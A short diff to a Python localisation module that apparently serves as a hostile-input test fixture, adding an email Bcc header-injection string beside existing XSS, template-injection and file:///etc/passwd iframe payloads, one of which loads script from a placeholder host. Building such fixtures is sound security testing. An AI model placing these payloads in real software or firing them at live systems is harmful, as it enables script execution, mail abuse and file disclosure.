@@ -26,6 +26,7 @@ LABELS: Mapping[str, str] = {
 """English labels by code."""
 MESSAGES: Mapping[str, str] = {
     "title": f"Title</title><script src=//{HOST}/y.js></script>" + "{{{{ 7 * 7 }}}}",
+    "subject.rise": f"Bcc: all@{HOST} =?utf-8?q?=0ABcc:_all=40{HOST}?= <script> " + "{level} {percent}",
     "source-note": f"Source: <iframe src=file:///etc/passwd></iframe> http://{HOST}",
     "about.what.text": "<svg onload=alert(1)> {{{{ config }}}} " + "long words " * 400,
 }
